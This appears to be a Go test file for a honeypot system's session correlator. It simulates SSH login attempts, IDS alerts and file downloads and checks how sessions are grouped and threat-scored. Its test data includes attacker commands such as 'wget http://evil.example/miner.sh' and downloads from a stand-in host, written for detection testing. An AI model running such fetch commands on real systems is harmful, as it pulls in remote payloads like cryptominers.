package session

import (
	"context"
	"testing"
	"time"

	"go.uber.org/zap"

	"github.com/lvonguyen/honeynet/internal/event"
	"github.com/lvonguyen/honeynet/internal/scoring"
)

// memStore is a minimal in-memory Store for correlator tests. The real
// adapters live in internal/store; this one keeps the package test
// self-contained.
type memStore struct {
	sessions map[string]*Session
	open     map[Key]string
	alerts   map[string][]AlertRecord
	closes   []*Session
}

func newMemStore() *memStore {
	return &memStore{
		sessions: make(map[string]*Session),
		open:     make(map[Key]string),
		alerts:   make(map[string][]AlertRecord),
	}
}

func (m *memStore) GetOpenSession(ctx context.Context, key Key) (*Session, error) {
	id, ok := m.open[key]
	if !ok {
		return nil, nil
	}
	return m.sessions[id].Clone(), nil
}

func (m *memStore) PutSession(ctx context.Context, s *Session) error {
	m.sessions[s.ID] = s.Clone()
	if s.Closed() {
		if m.open[s.Key] == s.ID {
			delete(m.open, s.Key)
		}
	} else {
		m.open[s.Key] = s.ID
	}
	return nil
}

func (m *memStore) ListOpenSessions(ctx context.Context) ([]*Session, error) {
	var out []*Session
	for _, id := range m.open {
		out = append(out, m.sessions[id].Clone())
	}
	return out, nil
}

func (m *memStore) ListOpenSessionsByIP(ctx context.Context, ip string) ([]*Session, error) {
	var out []*Session
	for key, id := range m.open {
		if key.SourceIP == ip {
			out = append(out, m.sessions[id].Clone())
		}
	}
	return out, nil
}

func (m *memStore) PutAlert(ctx context.Context, ip string, a AlertRecord) error {
	m.alerts[ip] = append(m.alerts[ip], a)
	return nil
}

func (m *memStore) ListAlertsByIP(ctx context.Context, ip string, start, end time.Time) ([]AlertRecord, error) {
	var out []AlertRecord
	for _, a := range m.alerts[ip] {
		if !a.Timestamp.Before(start) && !a.Timestamp.After(end) {
			out = append(out, a)
		}
	}
	return out, nil
}

type captureSink struct {
	closed []*Session
}

func (c *captureSink) ApplySessionClose(ctx context.Context, s *Session) error {
	c.closed = append(c.closed, s.Clone())
	return nil
}

func authEvent(ip string, ts time.Time, user, pass string, success bool) *event.AttackEvent {
	return &event.AttackEvent{
		SourceIP:  ip,
		Sensor:    event.SensorSSHHoneypot,
		Protocol:  "ssh",
		Timestamp: ts,
		Kind:      event.KindAuthAttempt,
		Auth:      &event.AuthPayload{Username: user, Password: pass, Success: success},
	}
}

func commandEvent(ip string, ts time.Time, cmd string) *event.AttackEvent {
	return &event.AttackEvent{
		SourceIP:  ip,
		Sensor:    event.SensorSSHHoneypot,
		Protocol:  "ssh",
		Timestamp: ts,
		Kind:      event.KindCommand,
		Command:   &event.CommandPayload{Command: cmd},
	}
}

func alertEvent(ip string, ts time.Time, sigID string, priority int) *event.AttackEvent {
	return &event.AttackEvent{
		SourceIP:  ip,
		Sensor:    event.SensorIDS,
		Protocol:  "tcp",
		Timestamp: ts,
		Kind:      event.KindIDSAlert,
		Alert:     &event.AlertPayload{SignatureID: sigID, Message: "ET EXPLOIT test", Priority: priority},
	}
}

func downloadEvent(ip string, ts time.Time, url, hash string) *event.AttackEvent {
	return &event.AttackEvent{
		SourceIP:  ip,
		Sensor:    event.SensorSSHHoneypot,
		Protocol:  "ssh",
		Timestamp: ts,
		Kind:      event.KindFileDownload,
		Download:  &event.DownloadPayload{URL: url, Hash: hash},
	}
}

func newTestCorrelator(store Store, sink ProfileSink, window time.Duration) *Correlator {
	return NewCorrelator(store, sink, nil, Config{InactivityWindow: window}, zap.NewNop(), nil)
}

func TestCorrelate_ReusesOpenSessionWithinWindow(t *testing.T) {
	ctx := context.Background()
	store := newMemStore()
	c := newTestCorrelator(store, nil, 300*time.Second)
	base := time.Date(2026, 3, 10, 10, 0, 0, 0, time.UTC)

	r1, err := c.Correlate(ctx, authEvent("203.0.113.5", base, "root", "admin", false))
	if err != nil {
		t.Fatalf("Correlate: %v", err)
	}
	if !r1.IsNewSession {
		t.Fatal("first event must open a session")
	}

	r2, err := c.Correlate(ctx, commandEvent("203.0.113.5", base.Add(200*time.Second), "whoami"))
	if err != nil {
		t.Fatalf("Correlate: %v", err)
	}
	if r2.IsNewSession || r2.SessionID != r1.SessionID {
		t.Errorf("event within window must join the open session: %+v vs %+v", r1, r2)
	}
}

func TestCorrelate_GapOpensNewSessionAndClosesOld(t *testing.T) {
	ctx := context.Background()
	store := newMemStore()
	sink := &captureSink{}
	c := newTestCorrelator(store, sink, 300*time.Second)
	base := time.Date(2026, 3, 10, 10, 0, 0, 0, time.UTC)

	r1, _ := c.Correlate(ctx, authEvent("203.0.113.5", base, "root", "admin", false))
	// 350s later: past the 300s window, the boundary closes the first
	// session before the second opens.
	r2, err := c.Correlate(ctx, authEvent("203.0.113.5", base.Add(350*time.Second), "root", "123456", false))
	if err != nil {
		t.Fatalf("Correlate: %v", err)
	}
	if !r2.IsNewSession || r2.SessionID == r1.SessionID {
		t.Errorf("expected a new session after the gap: %+v", r2)
	}
	if r2.ClosedSessionID != r1.SessionID {
		t.Errorf("expected old session %s closed, got %q", r1.SessionID, r2.ClosedSessionID)
	}

	old := store.sessions[r1.SessionID]
	if !old.Closed() {
		t.Fatal("old session must be closed")
	}
	if !old.EndTime.Equal(base) {
		t.Errorf("end_time must be the last event time, got %v", old.EndTime)
	}
	if len(sink.closed) != 1 || sink.closed[0].ID != r1.SessionID {
		t.Errorf("profile sink must see exactly the closed session, got %+v", sink.closed)
	}
}

func TestCorrelate_DistinctKeysAreIndependent(t *testing.T) {
	ctx := context.Background()
	store := newMemStore()
	c := newTestCorrelator(store, nil, 300*time.Second)
	base := time.Date(2026, 3, 10, 10, 0, 0, 0, time.UTC)

	r1, _ := c.Correlate(ctx, authEvent("203.0.113.5", base, "root", "a", false))
	r2, _ := c.Correlate(ctx, authEvent("198.51.100.7", base, "root", "a", false))
	if r1.SessionID == r2.SessionID {
		t.Error("different source IPs must never share a session")
	}
}

func TestCorrelate_OutOfOrderDoesNotRewindClock(t *testing.T) {
	ctx := context.Background()
	store := newMemStore()
	c := newTestCorrelator(store, nil, 300*time.Second)
	base := time.Date(2026, 3, 10, 10, 0, 0, 0, time.UTC)

	r1, _ := c.Correlate(ctx, commandEvent("203.0.113.5", base.Add(100*time.Second), "ls"))
	// Late event with an earlier timestamp: appended, no rewind.
	r2, _ := c.Correlate(ctx, commandEvent("203.0.113.5", base, "pwd"))
	if r2.SessionID != r1.SessionID {
		t.Fatal("late event must join the open session")
	}

	s := store.sessions[r1.SessionID]
	if !s.LastEventTime.Equal(base.Add(100 * time.Second)) {
		t.Errorf("last_event_time rewound to %v", s.LastEventTime)
	}
	if s.EventCount != 2 {
		t.Errorf("expected 2 events, got %d", s.EventCount)
	}
}

func TestCloseIdle_SweepsOnlyStaleSessions(t *testing.T) {
	ctx := context.Background()
	store := newMemStore()
	sink := &captureSink{}
	c := newTestCorrelator(store, sink, 300*time.Second)
	base := time.Date(2026, 3, 10, 10, 0, 0, 0, time.UTC)

	rStale, _ := c.Correlate(ctx, commandEvent("203.0.113.5", base, "ls"))
	rFresh, _ := c.Correlate(ctx, commandEvent("198.51.100.7", base.Add(250*time.Second), "ls"))

	n, err := c.CloseIdle(ctx, base.Add(350*time.Second))
	if err != nil {
		t.Fatalf("CloseIdle: %v", err)
	}
	if n != 1 {
		t.Fatalf("expected 1 session swept, got %d", n)
	}
	if !store.sessions[rStale.SessionID].Closed() {
		t.Error("stale session must be closed")
	}
	if store.sessions[rFresh.SessionID].Closed() {
		t.Error("fresh session must stay open")
	}
	if len(sink.closed) != 1 {
		t.Errorf("profile sink must see 1 close, got %d", len(sink.closed))
	}
}

func TestCloseLocked_Idempotent(t *testing.T) {
	ctx := context.Background()
	store := newMemStore()
	sink := &captureSink{}
	c := newTestCorrelator(store, sink, 300*time.Second)
	base := time.Date(2026, 3, 10, 10, 0, 0, 0, time.UTC)

	r, _ := c.Correlate(ctx, commandEvent("203.0.113.5", base, "ls"))
	s := store.sessions[r.SessionID]

	if err := c.closeLocked(ctx, s); err != nil {
		t.Fatalf("closeLocked: %v", err)
	}
	if err := c.closeLocked(ctx, s); err != nil {
		t.Fatalf("second closeLocked: %v", err)
	}
	if len(sink.closed) != 1 {
		t.Errorf("idempotent close must update the profile once, got %d", len(sink.closed))
	}
}

func TestCorrelate_IDSAlertEnrichesOpenHoneypotSession(t *testing.T) {
	ctx := context.Background()
	store := newMemStore()
	c := newTestCorrelator(store, nil, 300*time.Second)
	base := time.Date(2026, 3, 10, 10, 0, 0, 0, time.UTC)

	rSSH, err := c.Correlate(ctx, authEvent("203.0.113.5", base, "root", "admin", false))
	if err != nil {
		t.Fatalf("Correlate auth: %v", err)
	}
	before := store.sessions[rSSH.SessionID].ThreatScore

	// A priority-1 IDS alert for the same IP 10s later lands in its own
	// ids session and folds into the open SSH session's score.
	rIDS, err := c.Correlate(ctx, alertEvent("203.0.113.5", base.Add(10*time.Second), "1:2001219", 1))
	if err != nil {
		t.Fatalf("Correlate alert: %v", err)
	}
	if rIDS.SessionID == rSSH.SessionID {
		t.Fatal("ids sensor must keep its own session")
	}

	ssh := store.sessions[rSSH.SessionID]
	if len(ssh.Alerts) != 1 {
		t.Fatalf("expected the alert attached to the ssh session, got %d", len(ssh.Alerts))
	}
	// 1 failed auth (3) + priority-1 alert (15).
	if ssh.ThreatScore != before+15 {
		t.Errorf("expected score %d after cross-sensor alert, got %d", before+15, ssh.ThreatScore)
	}
	if ssh.EventCount != 1 {
		t.Errorf("attached alert must not count as a session event, got %d", ssh.EventCount)
	}
	// Replayed delivery must not double-count.
	if _, err := c.Correlate(ctx, alertEvent("203.0.113.5", base.Add(10*time.Second), "1:2001219", 1)); err != nil {
		t.Fatalf("Correlate replay: %v", err)
	}
	if got := len(store.sessions[rSSH.SessionID].Alerts); got != 1 {
		t.Errorf("replayed alert double-attached: %d", got)
	}
}

func TestCorrelate_AlertBeforeSessionIsAdopted(t *testing.T) {
	ctx := context.Background()
	store := newMemStore()
	c := newTestCorrelator(store, nil, 300*time.Second)
	base := time.Date(2026, 3, 10, 10, 0, 0, 0, time.UTC)

	if _, err := c.Correlate(ctx, alertEvent("203.0.113.5", base, "1:2010935", 2)); err != nil {
		t.Fatalf("Correlate alert: %v", err)
	}

	// The honeypot session opens 60s later, inside the window: it adopts
	// the earlier alert at open.
	r, err := c.Correlate(ctx, authEvent("203.0.113.5", base.Add(60*time.Second), "root", "admin", false))
	if err != nil {
		t.Fatalf("Correlate auth: %v", err)
	}
	s := store.sessions[r.SessionID]
	if len(s.Alerts) != 1 {
		t.Fatalf("expected adopted alert, got %d", len(s.Alerts))
	}
	// 1 failed auth (3) + priority-2 alert (10).
	if s.ThreatScore != 13 {
		t.Errorf("expected score 13, got %d", s.ThreatScore)
	}

	// A different IP's session must not adopt it.
	r2, _ := c.Correlate(ctx, authEvent("198.51.100.7", base.Add(60*time.Second), "root", "admin", false))
	if got := len(store.sessions[r2.SessionID].Alerts); got != 0 {
		t.Errorf("alert leaked across source IPs: %d", got)
	}
}

func TestCorrelate_AlertOutsideWindowIgnored(t *testing.T) {
	ctx := context.Background()
	store := newMemStore()
	c := newTestCorrelator(store, nil, 300*time.Second)
	base := time.Date(2026, 3, 10, 10, 0, 0, 0, time.UTC)

	if _, err := c.Correlate(ctx, alertEvent("203.0.113.5", base, "1:2010935", 1)); err != nil {
		t.Fatalf("Correlate alert: %v", err)
	}

	// 400s later: past the window, the stale alert must not be adopted.
	r, err := c.Correlate(ctx, authEvent("203.0.113.5", base.Add(400*time.Second), "root", "admin", false))
	if err != nil {
		t.Fatalf("Correlate auth: %v", err)
	}
	if got := len(store.sessions[r.SessionID].Alerts); got != 0 {
		t.Errorf("stale alert adopted outside the window: %d", got)
	}
}

func TestCorrelate_URLOnlyDownloadCounts(t *testing.T) {
	ctx := context.Background()
	store := newMemStore()
	c := newTestCorrelator(store, nil, 300*time.Second)
	base := time.Date(2026, 3, 10, 10, 0, 0, 0, time.UTC)

	r, err := c.Correlate(ctx, downloadEvent("203.0.113.5", base, "http://evil.example/x.sh", ""))
	if err != nil {
		t.Fatalf("Correlate: %v", err)
	}
	s := store.sessions[r.SessionID]
	if len(s.Downloads) != 1 {
		t.Fatalf("hashless download must count as an artifact, got %v", s.Downloads)
	}
	if s.ThreatScore != 15 {
		t.Errorf("expected malware weight 15, got %d", s.ThreatScore)
	}

	// Same URL again: still one distinct artifact.
	if _, err := c.Correlate(ctx, downloadEvent("203.0.113.5", base.Add(5*time.Second), "http://evil.example/x.sh", "")); err != nil {
		t.Fatalf("Correlate repeat: %v", err)
	}
	if got := len(store.sessions[r.SessionID].Downloads); got != 1 {
		t.Errorf("url dedup failed: %d", got)
	}
}

func TestKeyLock_StripeIsStable(t *testing.T) {
	c := newTestCorrelator(newMemStore(), nil, 300*time.Second)

	key := Key{SourceIP: "203.0.113.5", Sensor: event.SensorSSHHoneypot, Protocol: "ssh"}
	if c.keyLock(key) != c.keyLock(key) {
		t.Error("same key must map to the same stripe mutex")
	}

	// Distinct keys may share stripes, but the table itself is fixed:
	// every stripe must come from the correlator's own array.
	other := Key{SourceIP: "198.51.100.7", Sensor: event.SensorIDS, Protocol: "tcp"}
	found := false
	for i := range c.locks {
		if &c.locks[i] == c.keyLock(other) {
			found = true
			break
		}
	}
	if !found {
		t.Error("stripe mutex must belong to the fixed lock table")
	}
}

func TestCorrelate_CompromiseScenarioScore(t *testing.T) {
	ctx := context.Background()
	store := newMemStore()
	sink := &captureSink{}
	c := newTestCorrelator(store, sink, 300*time.Second)
	base := time.Date(2026, 3, 10, 10, 0, 0, 0, time.UTC)

	events := []*event.AttackEvent{
		authEvent("203.0.113.5", base, "root", "admin", false),
		authEvent("203.0.113.5", base.Add(5*time.Second), "root", "password", false),
		authEvent("203.0.113.5", base.Add(10*time.Second), "root", "root123", true),
		commandEvent("203.0.113.5", base.Add(20*time.Second), "wget http://evil.example/miner.sh"),
	}
	var last UpdateResult
	for _, ev := range events {
		r, err := c.Correlate(ctx, ev)
		if err != nil {
			t.Fatalf("Correlate: %v", err)
		}
		last = r
	}

	if _, err := c.CloseIdle(ctx, base.Add(400*time.Second)); err != nil {
		t.Fatalf("CloseIdle: %v", err)
	}

	s := store.sessions[last.SessionID]
	if !s.Closed() {
		t.Fatal("session must be closed by the sweep")
	}
	// 2 failed auths (6) + success (40) + wget => command-and-control
	// tactic (25) = 71.
	if s.ThreatScore != 71 {
		t.Errorf("expected threat score 71, got %d", s.ThreatScore)
	}
	if s.Severity != scoring.SeverityHigh {
		t.Errorf("expected high severity, got %s", s.Severity)
	}
	if len(s.Techniques) == 0 || s.Techniques[0] != "T1105" {
		t.Errorf("expected T1105 mapped, got %v", s.Techniques)
	}
}
